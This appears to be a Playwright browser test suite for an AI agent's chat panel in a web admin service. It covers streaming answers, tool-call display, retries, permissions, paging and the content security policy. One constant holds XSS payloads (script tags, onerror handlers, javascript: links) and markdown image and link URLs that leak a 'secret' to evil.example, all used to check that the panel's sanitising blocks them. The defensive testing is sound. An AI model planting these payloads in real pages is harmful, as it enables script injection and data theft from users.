"""The agent's chat in headless Chromium, against the whole service and models that the test scripts."""

from __future__ import annotations

import asyncio
import json
import threading
import uuid
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
import pytest_asyncio
from playwright.async_api import Page, Route, expect

from tests.agent.chat.playing import calls, says
from tests.browser.actions import overflows, sign_in, unlabelled
from tests.browser.problems import Problems
from tests.fakes.scripted import ScriptedServer, endless, status
from tests.live.panel import PATH, Office, PanelPage, make_office
from tests.live.playground import gated, give_role, make_account
from tests.live.prompts import Team
from tests.live.service import LiveService
from tests.patience import PATIENCE_SECONDS

HOSTILE = """# Report
<script>alert(1)</script> <img src=x onerror=alert(2)> <b onclick="alert(3)">b</b> <style>body{display:none}</style>

![pixel](https://evil.example/leak?d=secret) ![inline](data:image/png;base64,AAAA)

[run](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>) [out](/admin/logout/)
[odd](JaVaScRiPt:alert(6)) [bare](//evil.example/)

[the docs](https://evil.example/docs?d=secret) and <https://plain.example/>

<iframe src="https://evil.example/frame"></iframe><link rel=stylesheet href=https://evil.example/a.css>

| Model | Cost |
|---|--:|
| `a` | **1** |

- one
- two
"""

_MANY = """
from django.utils import timezone
from agent.models import Conversation, Message
made = [Conversation(project_id="{project_id}", title=f"short {{n}}") for n in range(40)]
made.append(Conversation(project_id="{project_id}", title="the long one", last_sequence=250, updated_at=timezone.now()))
Conversation.objects.bulk_create(made)
Message.objects.bulk_create(
    Message(conversation=made[-1], sequence=2 * n + extra - 1, role=role, content=f"{{word}} {{n}}")
    for n in range(1, 126)
    for extra, role, word in ((0, "user", "question"), (1, "assistant", "answer"))
)
"""


@pytest.fixture(scope="module")
def upstream() -> Iterator[ScriptedServer]:
    with ScriptedServer() as running:
        yield running


@pytest.fixture(scope="module")
def office(live_service: LiveService, upstream: ScriptedServer) -> Office:
    return make_office(Team(live_service, "agent panel"), upstream)


@pytest_asyncio.fixture(loop_scope="session")
async def panel(page: Page, office: Office) -> PanelPage:
    """The panel, opened by a permitted operator in a project without conversations."""
    office.empty()
    made = PanelPage(page, office)
    await made.sign_in()
    await made.open()
    return made


async def test_panel__answer__streams_in_and_is_rendered_when_it_is_complete(panel: PanelPage, office: Office) -> None:
    gate = threading.Event()
    office.play(gated(["It was **", "two"], gate, ["** dollars."]))
    await panel.ask("What did we spend?")

    await expect(panel.answers).to_contain_text("It was **two")
    await expect(panel.questions).to_contain_text("What did we spend?")
    await expect(panel.send_button).to_be_disabled()
    gate.set()

    await panel.done()
    await expect(panel.answers.get_by_role("strong")).to_have_text("two")
    await expect(panel.answers).to_contain_text("It was two dollars.")
    await expect(panel.list.get_by_role("button", name="What did we spend?").first).to_have_attribute(
        "aria-current", "true"
    )


async def test_panel__tool_called__name_arguments_and_result_are_shown(panel: PanelPage, office: Office) -> None:
    gate = threading.Event()
    office.play(calls(("get_project", {}), text="I look."), gated(["It is "], gate, ["yours."]))
    await panel.ask("Whose project is it?")
    await expect(panel.answers).to_contain_text("It is ")
    tool = panel.tool("get_project")
    await expect(tool).to_contain_text("done")
    result = tool.get_by_text(office.team.project_id)
    await expect(result).to_be_hidden()
    await tool.get_by_text("get_project").click()
    await expect(result).to_be_visible()
    # The answer is still streaming, and the tool's arguments are known already.
    await expect(tool.get_by_text("{}", exact=True)).to_be_visible()
    gate.set()
    await panel.done()
    await expect(panel.answers).to_contain_text("It is yours.")


async def test_panel__tool_runs_and_fails__says_so(panel: PanelPage, office: Office) -> None:
    office.play(calls(("no_such_tool", {"a": 1})), says("I could not."))
    await panel.ask("Do it")
    await panel.done()
    tool = panel.tool("no_such_tool")
    await expect(tool).to_contain_text("failed")
    await tool.get_by_text("no_such_tool").first.click()
    await expect(tool).to_contain_text('"code": "unknown_tool"')
    await expect(tool).to_contain_text('"a": 1')


async def test_panel__hostile_answer__is_harmless(panel: PanelPage, office: Office) -> None:
    page = panel.page
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    office.play(calls((HOSTILE[:60], {HOSTILE: HOSTILE})), says(HOSTILE))
    await panel.ask(HOSTILE)
    await panel.done()
    answer = panel.answers
    await expect(answer.get_by_role("heading", name="Report")).to_be_visible()
    await expect(answer.get_by_role("cell", name="1", exact=True)).to_have_class("right")
    await expect(answer).to_contain_text("<script>alert(1)</script>")
    await expect(answer).to_contain_text("the docs (https://evil.example/docs?d=secret)")
    found = await page.locator("#turns img, #turns script, #turns iframe, #turns style, #turns link, #turns b").count()
    assert found == 0
    links = await page.locator("#turns a").evaluate_all("all => all.map((a) => [a.href, a.rel, a.target])")
    assert links == [
        [address, "noopener noreferrer nofollow", "_blank"]
        for address in (
            "https://evil.example/leak?d=secret",
            "https://evil.example/docs?d=secret",
            "https://plain.example/",
        )
    ]
    await page.reload()
    await panel.ready()
    await expect(panel.answers.get_by_role("heading", name="Report")).to_be_visible()
    assert dialogs == []


async def test_panel__stopped__keeps_what_was_said(panel: PanelPage, office: Office) -> None:
    script = office.play(endless())
    await panel.ask("Count")
    await expect(panel.answers).to_contain_text("word word")
    await panel.stop_button.click()
    await panel.done("Stopped")
    assert script.received[0].gone.wait(PATIENCE_SECONDS)
    await expect(panel.answers).to_contain_text("word word")
    await expect(panel.answers).to_contain_text("Stopped.")
    office.wait_until_idle()
    (row,) = office.conversations()
    assert [message["state"] for message in office.messages(row["conversation_id"])] == ["complete", "cancelled"]

    office.play(says("Three."))
    await panel.ask("Then say three")
    await panel.done()
    await expect(panel.answers.last).to_contain_text("Three.")
    await expect(panel.answers.first).to_contain_text("word word")


async def test_panel__loaded_again__goes_on_with_the_same_conversation(panel: PanelPage, office: Office) -> None:
    page = panel.page
    office.play(calls(("get_project", {})), says("It is *yours*."), says("As I said."))
    await panel.ask("Whose?")
    await panel.done()
    await panel.message.fill("not sent yet")
    await page.reload()
    await panel.ready()
    await expect(panel.questions).to_contain_text("Whose?")
    await expect(panel.answers.get_by_role("emphasis")).to_have_text("yours")
    await expect(panel.tool("get_project")).to_contain_text("done")
    await expect(panel.message).to_have_value("not sent yet")
    kept: str = await page.evaluate("JSON.stringify({...localStorage})")
    assert await page.locator("#composer [name=csrfmiddlewaretoken]").input_value() not in kept
    assert "svc_" not in kept
    await panel.ask("Whose, again?")
    await panel.done()
    (row,) = office.conversations()
    assert row["message_count"] == 6


async def test_panel__conversations__are_opened_begun_and_deleted(panel: PanelPage, office: Office) -> None:
    page = panel.page
    office.play(says("One."), says("Two."))
    await panel.ask("first")
    await panel.done()
    await page.get_by_role("button", name="New conversation").click()
    await expect(panel.answers).to_have_count(0)
    await expect(panel.message).to_be_focused()
    await panel.ask("second")
    await panel.done()
    await expect(panel.answers).to_contain_text("Two.")
    await panel.list.get_by_role("button", name="first").first.click()
    await expect(panel.answers).to_contain_text("One.")

    remove = page.get_by_role("button", name="Delete first", exact=True)
    await remove.click()
    dialog = page.get_by_role("dialog")
    await expect(dialog).to_contain_text("Delete “first”")
    await dialog.get_by_role("button", name="Keep").click()
    assert len(office.conversations()) == 2
    await remove.click()
    await dialog.get_by_role("button", name="Delete").click()
    await expect(remove).to_have_count(0)
    await expect(panel.answers).to_have_count(0)
    assert [row["title"] for row in office.conversations()] == ["second"]
    await panel.list.get_by_role("button", name="second").first.click()
    await expect(panel.answers).to_contain_text("Two.")


async def test_panel__provider_fails__says_so_and_can_be_retried(panel: PanelPage, office: Office) -> None:
    office.play(status(503, "no capacity"), says("Now it works."))
    await panel.ask("Are you there?")
    await panel.done("Failed")
    await expect(panel.answers.get_by_role("alert")).to_be_visible()
    await panel.answers.get_by_role("button", name="Retry").click()
    await panel.done()
    await expect(panel.answers.last).to_contain_text("Now it works.")
    await expect(panel.questions).to_have_count(2)
    # The failed turn is stored as failed.
    await panel.page.reload()
    await panel.ready()
    await expect(panel.answers.first.get_by_role("button", name="Retry")).to_be_visible()
    await expect(panel.answers.last).to_contain_text("Now it works.")


async def test_panel__conversation_is_busy_or_gone__says_so_and_keeps_the_message(
    panel: PanelPage, office: Office, problems: Problems
) -> None:
    problems.expect("status of 409", "status of 404")
    page = panel.page
    office.play(says("One."), endless())
    await panel.ask("first")
    await panel.done()
    other = PanelPage(await page.context.new_page(), office)
    await other.open()
    await other.ask("count")
    await expect(other.answers.last).to_contain_text("word")
    await panel.ask("me too")
    await panel.done("Not sent")
    problem = page.locator("#problem")
    await expect(problem).to_contain_text("conversation_busy")
    await expect(panel.message).to_have_value("me too")
    await expect(panel.questions).to_have_count(1)
    await other.stop_button.click()
    await other.done("Stopped")
    office.wait_until_idle()
    office.play(says("You too."))
    await problem.get_by_role("button", name="Retry").click()
    await panel.done()
    await expect(panel.answers.last).to_contain_text("You too.")

    office.empty()
    await panel.ask("and now?")
    await panel.done("Not sent")
    await expect(problem).to_contain_text("was deleted")
    await problem.get_by_role("button", name="Retry").click()
    await panel.done()
    assert [row["title"] for row in office.conversations()] == ["and now?"]


async def test_panel__agent_is_switched_off__says_so(
    panel: PanelPage, live_service: LiveService, upstream: ScriptedServer, problems: Problems
) -> None:
    problems.expect("status of 403")
    disabled = Team(live_service, "without an agent")
    make_office(disabled, upstream, panel.office.user, enabled=False)
    give_role(disabled, panel.office.user, "reader")
    await panel.open(project_id=disabled.project_id)
    await expect(panel.page.locator("#notice")).to_contain_text("agent_disabled")
    await panel.ask("Hello?")
    await panel.done("Not sent")
    await expect(panel.page.locator("#problem")).to_contain_text("agent_disabled")
    await panel.choose(panel.office.team.project_id)
    await expect(panel.page.locator("#notice")).to_be_hidden()


async def test_panel__session_is_over__leads_to_the_login_with_the_message_kept(
    panel: PanelPage, problems: Problems
) -> None:
    problems.expect("status of 401")
    page = panel.page
    await page.context.clear_cookies()
    await panel.ask("Where?")
    await panel.done("Not sent")
    await page.get_by_role("link", name="Sign in again").click()
    await expect(page.get_by_label("Username:")).to_be_visible()
    assert f"/admin/login/?next={quote(PATH, safe='')}" in page.url
    await page.get_by_label("Username:").fill(panel.office.user.name)
    await page.get_by_label("Password:").fill(panel.office.user.password)
    await page.get_by_role("button", name="Log in").click()
    await panel.ready()
    await expect(panel.message).to_have_value("Where?")


async def test_panel__two_projects__are_apart(
    panel: PanelPage, office: Office, live_service: LiveService, upstream: ScriptedServer
) -> None:
    second = make_office(Team(live_service, "another project"), upstream, office.user)
    give_role(second.team, office.user, "reader")
    office.play(says("Of the first."))
    second.play(calls(("get_project", {})), says("Of the second."))
    await panel.open()
    await panel.ask("first")
    await panel.done()
    await panel.choose(second.team.project_id)
    await expect(panel.answers).to_have_count(0)
    await expect(panel.list.get_by_role("button", name="first")).to_have_count(0)
    await panel.ask("second")
    await panel.done()
    tool = panel.tool("get_project")
    await tool.get_by_text("get_project").click()
    await expect(tool).to_contain_text(second.team.project_id)
    await panel.choose(office.team.project_id)
    # Each project continues with the conversation that was open in it.
    await expect(panel.answers).to_contain_text("Of the first.")
    assert [row["title"] for row in second.conversations()] == ["second"]
    assert [row["title"] for row in office.conversations()] == ["first"]


async def test_panel__opened_from_a_page__tells_the_agent_of_it_once(panel: PanelPage, office: Office) -> None:
    page = panel.page
    script = office.play(says("I see it."))
    session = f"s-{uuid.uuid4().hex}"
    shown = f"/admin/analytics/requests/?project={office.team.project_id}&session={session}"
    await panel.open(f"?from={quote(shown, safe='')}")
    await expect(page.get_by_label("Project", exact=True)).to_have_value(office.team.project_id)
    await expect(page.locator("#origin")).to_contain_text("/admin/analytics/requests/")
    await panel.ask("What is wrong here?")
    await panel.done()
    await expect(page.locator("#origin")).to_be_hidden()
    await panel.ask("And else?")
    await panel.done()
    first, _, again = [
        message["content"] for message in json.loads(script.received[1].body)["messages"] if message["role"] != "system"
    ]
    assert session in first
    assert session not in again
    (row,) = office.conversations()
    context = office.messages(row["conversation_id"])[0]["page_context"]
    assert context["page"] == "/admin/analytics/requests/"
    assert context["data"]["query"] == {"project": office.team.project_id, "session": session}


async def test_panel__keys__shift_enter_is_a_new_line(panel: PanelPage, office: Office) -> None:
    office.play(says("Done."))
    await panel.message.fill("one")
    await panel.message.press("Shift+Enter")
    await panel.page.keyboard.type("two")
    await expect(panel.message).to_have_value("one\ntwo")
    await panel.message.press("Enter")
    await panel.done()
    await expect(panel.message).to_have_value("")
    await panel.ask("   ")
    await expect(panel.questions).to_have_count(1)
    (row,) = office.conversations()
    assert office.messages(row["conversation_id"])[0]["content"] == "one\ntwo"


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_panel__narrow_window__fits_and_every_field_has_a_name(
    panel: PanelPage, office: Office, scheme: Any
) -> None:
    page = panel.page
    table = "|".join(["wide"] * 30)
    office.play(
        calls(("get_project", {})), says(f"{'word' * 200}\n\n|{table}|\n|{'-|' * 30}\n|{table}|\n\n`{'code' * 200}`")
    )
    await page.set_viewport_size({"width": 400, "height": 800})
    await page.emulate_media(color_scheme=scheme)
    await panel.ask("question" * 50)
    await panel.done()
    await panel.tool("get_project").get_by_text("get_project").click()
    await expect(panel.answers.get_by_role("table")).to_be_visible()
    assert await unlabelled(page) == []
    assert not await overflows(page)
    background: str = await page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert background == ("rgb(255, 255, 255)" if scheme == "light" else "rgb(18, 18, 18)")


async def test_index__links_to_the_panel_for_those_who_may_use_it(panel: PanelPage) -> None:
    page = panel.page
    await page.goto(f"{panel.office.team.service.base_url}/admin/")
    await page.get_by_role("main").get_by_role("link", name="Ask the agent", exact=True).first.click()
    await expect(page.get_by_role("heading", name="Ask the agent")).to_be_visible()


async def test_panel__staff_without_the_permission__is_refused(page: Page, office: Office, problems: Problems) -> None:
    problems.expect("status of 403")
    account = make_account(office.team, "reader_without_content")
    await sign_in(page, office.team.service.base_url, account.name, account.password)
    await expect(page.get_by_role("link", name="Ask the agent", exact=True)).to_have_count(0)
    response = await page.goto(office.url)
    assert response is not None
    assert response.status == 403


async def test_panel__nobody_signed_in__leads_to_the_login(page: Page, office: Office) -> None:
    await page.goto(office.url)
    assert f"/admin/login/?next={PATH}" in page.url


async def test_panel__policy__allows_the_services_own_files_only(panel: PanelPage) -> None:
    response = await panel.page.request.get(panel.office.url)
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert "<script>" not in await response.text()


async def test_pages__link_to_the_panel__and_come_along(panel: PanelPage) -> None:
    page = panel.page
    await page.goto(f"{panel.office.team.service.base_url}/admin/agent/?of=a%26b")
    await page.get_by_role("banner").get_by_role("link", name="Ask the agent").click()
    await panel.ready()
    await expect(page.locator("#origin")).to_contain_text("/admin/agent/")
    origin: str = await page.locator("#origin-data").inner_text()
    assert json.loads(origin)["data"]["query"] == {"of": "a&b"}


async def test_panel__many_conversations_and_messages__come_by_page(panel: PanelPage, office: Office) -> None:
    page = panel.page
    office.team.command("shell", "--verbosity", "0", "-c", _MANY.format(project_id=office.team.project_id))
    await page.reload()
    await panel.ready()
    rows = panel.list.get_by_role("listitem")
    await expect(rows).to_have_count(30)
    older = page.get_by_role("button", name="Older conversations")
    await older.click()
    await expect(rows).to_have_count(41)
    await expect(older).to_be_hidden()

    await panel.list.get_by_role("button", name="the long one").first.click()
    await expect(panel.messages).to_contain_text("answer 125")
    await expect(panel.questions).to_have_count(50)
    earlier = page.get_by_role("button", name="Earlier messages")
    office.play(says("On it goes."))
    await panel.ask("goes on")
    await panel.done()
    await earlier.click()
    await expect(panel.questions).to_have_count(101)
    await earlier.click()
    await expect(earlier).to_be_hidden()
    await expect(panel.questions).to_have_count(126)
    assert await panel.questions.first.inner_text() == "You\nquestion 1"
    await expect(panel.questions.last).to_contain_text("goes on")
    await expect(panel.answers.last).to_contain_text("On it goes.")


async def test_panel__asked_while_the_conversation_loads__follows_what_was_said(
    panel: PanelPage, office: Office
) -> None:
    office.play(says("One."), says("Two."))
    await panel.ask("first")
    await panel.done()
    asked = asyncio.Event()

    async def late(route: Route) -> None:
        await asked.wait()
        await route.continue_()

    await panel.page.route("**/messages?*", late)
    await panel.choose(office.team.project_id)
    await panel.ask("second")
    await expect(panel.send_button).to_be_disabled()
    asked.set()
    await panel.done()
    await expect(panel.questions).to_have_text(["Youfirst", "Yousecond"])
    await expect(panel.answers).to_have_text(["AgentOne.", "AgentTwo."])


async def test_panel__earlier_messages_asked_for_twice__come_once(panel: PanelPage, office: Office) -> None:
    office.team.command("shell", "--verbosity", "0", "-c", _MANY.format(project_id=office.team.project_id))
    await panel.page.reload()
    await panel.ready()
    await panel.list.get_by_role("button", name="the long one").first.click()
    await expect(panel.questions).to_have_count(50)
    asked = asyncio.Event()

    async def late(route: Route) -> None:
        await asked.wait()
        await route.continue_()

    await panel.page.route("**/messages?*", late)
    earlier = panel.page.get_by_role("button", name="Earlier messages")
    await earlier.click()
    await earlier.click()
    asked.set()
    await expect(panel.questions).to_have_count(100)
    await earlier.click()
    await expect(earlier).to_be_hidden()
    await expect(panel.questions).to_have_count(125)


async def test_panel__left_while_the_agent_answers__stops_it(panel: PanelPage, office: Office) -> None:
    script = office.play(endless())
    await panel.ask("Count")
    await expect(panel.answers).to_contain_text("word word")
    await panel.page.get_by_role("button", name="New conversation").click()
    assert script.received[0].gone.wait(PATIENCE_SECONDS)
    await expect(panel.answers).to_have_count(0)
    await expect(panel.send_button).to_be_enabled()
    office.wait_until_idle()
    await panel.list.get_by_role("button", name="Count").first.click()
    await expect(panel.answers).to_contain_text("Stopped.")


async def test_panel__answer_is_not_there__can_be_loaded_again(panel: PanelPage, office: Office) -> None:
    gate = threading.Event()
    office.play(gated([], gate, ["Here it is."]))
    other = PanelPage(await panel.page.context.new_page(), office)
    await other.open()
    await other.ask("Wait for it")
    await expect(other.list.get_by_role("button", name="Wait for it").first).to_be_visible()
    await panel.page.reload()
    await panel.ready()
    await expect(panel.answers).to_contain_text("still being made")
    gate.set()
    await other.done()
    await panel.answers.get_by_role("button", name="Load again").click()
    await expect(panel.answers).to_contain_text("Here it is.")


async def test_panel__service_goes_away__says_so_and_goes_on(
    panel: PanelPage, office: Office, problems: Problems
) -> None:
    problems.expect("ERR_CONNECTION_REFUSED")
    office.play(says("Back again."))
    refused = "**/api/agent/chat"
    await panel.page.context.route(refused, lambda route: route.abort("connectionrefused"))
    await panel.ask("Where?")
    await panel.done("Failed")
    await expect(panel.answers).to_contain_text("The connection to the service broke.")
    await panel.page.context.unroute(refused)
    await panel.answers.get_by_role("button", name="Retry").click()
    await panel.done()
    await expect(panel.answers.last).to_contain_text("Back again.")
